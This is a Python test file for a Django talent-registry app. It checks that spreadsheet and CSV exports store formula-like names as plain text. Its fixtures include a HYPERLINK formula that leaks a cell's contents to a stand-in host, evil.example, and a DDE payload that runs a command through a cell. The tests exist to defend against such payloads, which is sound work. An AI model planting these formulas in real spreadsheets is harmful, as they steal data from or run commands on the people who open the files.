"""Every spreadsheet Rencai writes holds text as text: a name that looks like a formula never becomes one.

A talent registered as `=HYPERLINK("http://…"&A1,"Click")` through the real service, then exported through
the real pages (registry list, import report, policy simulation), must come back from the file as a string
cell with that literal text, and the file must hold no formula at all.
"""

import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from rencai.core.spreadsheets import csv_text, text_row
from rencai.policies.models import Policy, PolicyVersion
from rencai.registry import importers, services
from tests import factories

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def no_formula_in(content: bytes) -> bool:
    """No <f> element in any worksheet of the file (the XML openpyxl would turn back into a formula)."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
    return bool(sheets) and not any(
        b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets
    )


def cells_holding(content: bytes, text: str) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value == text]


@pytest.fixture
def formula_talent(world):
    return services.register_talent(
        actor=world.users["county_org_dept"],
        data=services.TalentInput(
            name=FORMULA_NAME,
            id_number=factories.make_id_number("330881", dt.date(1991, 2, 3)),
            region_code="330881",
            team="professional",
            tier="D",
            arrival_date=dt.date(2020, 5, 1),
        ),
    )


def test_the_registry_export_writes_a_formula_like_name_as_text(client, world, formula_talent):
    assert formula_talent.name == FORMULA_NAME
    client.force_login(world.users["county_org_dept"])

    response = client.get(reverse("registry:talent_export"))

    content = b"".join(response.streaming_content)
    (cell,) = cells_holding(content, FORMULA_NAME)
    assert cell.data_type == "s" and cell.value == FORMULA_NAME
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    assert no_formula_in(content)


def test_the_import_error_report_writes_a_formula_like_name_as_text(client, world):
    buffer = io.BytesIO()
    book = Workbook()
    book.active.append(["姓名", "身份证号", "所在地区", "人才队伍", "到衢日期"])  # the ID number is wrong
    book.active.append(text_row(book.active, [FORMULA_NAME, "123", "江山市", "专业技术人才", "2020-05-01"]))
    book.save(buffer)
    batch = importers.import_file(
        actor=world.users["city_org_dept"], kind="talents", filename="名单.xlsx", data=buffer.getvalue()
    )
    assert batch.outcome == "rejected"
    client.force_login(world.users["city_org_dept"])

    response = client.get(reverse("registry:import_report", args=[batch.pk]) + "?format=xlsx")

    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))
    assert rows  # one line per reason (the ID number), each naming the row by its label
    assert all(row[1].data_type == "s" and row[1].value.startswith(FORMULA_NAME) for row in rows)
    assert no_formula_in(response.content)


def test_the_policy_simulation_export_writes_a_formula_like_name_as_text(client, world, formula_talent):
    policy = Policy.objects.create(
        code="sim-safe", name="政策", region=world.regions["330800"], kind="subsidy"
    )
    issued = PolicyVersion.objects.create(
        policy=policy,
        number=1,
        effective_from=dt.date(2017, 1, 1),
        eligibility_rule='talent.tier == "E"',
        amount_rule="1000",
        status="issued",
    )
    draft = PolicyVersion.objects.create(
        policy=policy,
        number=2,
        effective_from=issued.effective_from.replace(year=2030),
        eligibility_rule='talent.tier == "D"',  # adds the formula-named talent
        amount_rule="1000",
    )
    client.force_login(world.users["city_org_dept"])

    response = client.get(reverse("policies:version_simulate_export", args=[draft.pk]))

    assert response.status_code == 200
    (cell,) = cells_holding(response.content, FORMULA_NAME)
    assert cell.data_type == "s" and cell.value == FORMULA_NAME
    assert no_formula_in(response.content)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "#N/A", "=", '=cmd|" /C calc"!A0']
)
@pytest.mark.parametrize("write_only", [True, False], ids=["write-only", "normal"])
def test_text_rows_keep_every_risky_text_as_a_string(text, write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(text_row(sheet, [text, "普通文字", 7, dt.date(2020, 5, 1), None]))
    buffer = io.BytesIO()
    book.save(buffer)

    row = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())

    assert row[0].data_type == "s"
    assert row[0].value == text.replace("\r", "\n")  # XML reads a carriage return as a line feed
    assert (row[1].value, row[2].value) == ("普通文字", 7)
    assert no_formula_in(buffer.getvalue())


def test_csv_text_quotes_what_a_spreadsheet_would_run():
    assert [csv_text(v) for v in ["=1+1", "+1", "-1", "@A1", "\t=1", "张三", 7]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\t=1",
        "张三",
        7,
    ]
